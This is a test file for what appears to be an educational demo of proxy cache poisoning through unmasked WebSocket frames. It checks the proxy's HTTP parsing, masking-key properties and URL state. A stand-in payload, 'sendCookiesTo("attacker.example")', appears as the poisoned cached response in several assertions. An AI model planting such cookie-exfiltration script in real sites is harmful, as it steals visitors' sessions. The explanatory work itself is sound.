import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { encodeText } from '../../text/utf8.ts';
import {
  INITIAL_PROXY_CACHE,
  MODES,
  type ProxyCacheState,
  parametersOfState,
  reduceProxyCache,
  STEP_COUNT,
  stateOfParameters,
} from './model.ts';
import { findRequest, findResponse } from './naive-proxy.ts';
import { presentStory } from './present.ts';
import { clientFrame, type Mode, payloadOf, serverFrame, WANTED } from './story-bytes.ts';

const stateIn = (mode: Mode): ProxyCacheState => ({ ...INITIAL_PROXY_CACHE, mode });
const tonesOf = (mode: Mode) =>
  presentStory(stateIn(mode)).flatMap(({ scenes }) => scenes.flatMap(({ tone }) => tone ?? []));
const anyKey = fc.nat(2 ** 32 - 1);

test('without a mask the proxy takes the payload for a request, and files the answer under its address', () => {
  const request = findRequest(clientFrame('unmasked', 0));
  expect(request).toMatchObject({ method: 'GET', address: 'http://cdn.example/stats.js' });
  expect(clientFrame('unmasked', 0).subarray(request?.start, request?.end)).toEqual(WANTED.subarray(2));
  expect(findResponse(serverFrame())?.body).toBe('sendCookiesTo("attacker.example")');
  const story = presentStory(stateIn('unmasked'));
  expect(story).toHaveLength(STEP_COUNT);
  expect(story[4]?.scenes[0]?.lines).toEqual(['http://cdn.example/stats.js → sendCookiesTo("attacker.example")']);
  expect(new Set(tonesOf('unmasked'))).toEqual(new Set(['danger']));
});

test('with a fresh key it sees no request, whatever the key, but for the one that masks nothing', () => {
  fc.assert(
    fc.property(anyKey, (key) => {
      expect(findRequest(clientFrame('fresh-key', key)) !== undefined).toBe(key === 0);
    }),
  );
  expect(new Set(tonesOf('fresh-key'))).toEqual(new Set(['ok']));
  expect(presentStory(stateIn('fresh-key'))[5]?.scenes[1]?.lines).toEqual(['countVisit()']);
});

test('with a key that the page knows, every key lets the request through', () => {
  fc.assert(
    fc.property(anyKey, (key) => {
      const frame = clientFrame('known-key', key);
      expect(findRequest(frame)?.address).toBe('http://cdn.example/stats.js');
      expect(frame.subarray(-WANTED.length)).toEqual(WANTED);
      if (key !== 0) expect(payloadOf('known-key', key)).not.toEqual(WANTED);
    }),
  );
  expect(new Set(tonesOf('known-key'))).toEqual(new Set(['danger']));
});

test('the bytes that the proxy believes in are marked, the frame’s own header is not', () => {
  const cells = presentStory(stateIn('unmasked'))[2]?.scenes[0]?.bytes?.cells ?? [];
  expect(cells.slice(0, 5).map(({ believed, field }) => [believed, field])).toEqual([
    [false, 'field-opcode'],
    [false, 'field-payload-length'],
    [false, 'field-payload-data'],
    [false, 'field-payload-data'],
    [true, 'field-payload-data'],
  ]);
  expect(cells.slice(2, 8).map(({ character }) => character)).toEqual(['\\r', '\\n', 'G', 'E', 'T', ' ']);
});

test('any bytes can be read as HTTP, and seldom are', () => {
  fc.assert(
    fc.property(fc.uint8Array({ maxLength: 60 }), (bytes) => {
      expect(findRequest(bytes)).toBeUndefined();
      expect(findResponse(bytes)).toBeUndefined();
    }),
  );
});

describe('the proxy', () => {
  const find = (text: string) => findRequest(encodeText(text));
  test('needs a request line, a Host and an empty line', () => {
    expect(find('GET / HTTP/1.1\r\nHost: a\r\n\r\n')).toMatchObject({ start: 0, address: 'http://a/' });
    expect(find('GET / HTTP/1.1\r\nHost: a\r\n')).toBeUndefined();
    expect(find('GET / HTTP/1.1\r\nHost: a\r\nB: c\r\n')).toBeUndefined();
    expect(find('GET / HTTP/1.1\r\n\r\n')).toBeUndefined();
    expect(find('GET / HTTP/2\r\nHost: a\r\n\r\n')).toBeUndefined();
  });
  test('skips lines that say nothing to it', () => {
    expect(find('what?\r\n\r\nHEAD /x HTTP/1.0\r\nA: b\r\nhost:c\r\n\r\n')).toMatchObject({
      method: 'HEAD',
      address: 'http://c/x',
    });
  });
});

test('many keys are tried in one go, and counted', () => {
  const state = reduceProxyCache(stateIn('fresh-key'), { type: 'try', maskingKeys: Uint32Array.of(1, 0, 7) });
  expect(state).toMatchObject({ tried: 3, believed: 1, maskingKey: 7 });
  expect(reduceProxyCache(state, { type: 'try', maskingKeys: Uint32Array.of(9) })).toMatchObject({
    tried: 4,
    believed: 1,
  });
});

test('the state goes through the address and comes back; nonsense is the beginning', () => {
  for (const { mode } of MODES) {
    for (let step = 0; step < STEP_COUNT; step++) {
      const state = { ...INITIAL_PROXY_CACHE, mode, step, maskingKey: 0x00c0ffee + step };
      expect(stateOfParameters(new URLSearchParams(parametersOfState(state)))).toEqual(state);
    }
  }
  expect(stateOfParameters(new URLSearchParams('xor=1'))).toBeUndefined();
  const { maskingKey } = INITIAL_PROXY_CACHE;
  for (const key of ['', '123', 'toString', '-1234567', '123456789']) {
    expect(stateOfParameters(new URLSearchParams({ cache: 'fresh-key', 'cache-key': key }))?.maskingKey).toBe(
      maskingKey,
    );
  }
  expect(stateOfParameters(new URLSearchParams('cache=x&cache-step=99'))).toMatchObject({ mode: 'unmasked', step: 5 });
  expect(stateOfParameters(new URLSearchParams('cache=x&cache-step=-4'))?.step).toBe(0);
  expect(stateOfParameters(new URLSearchParams('cache=x&cache-step=two'))?.step).toBe(0);
});
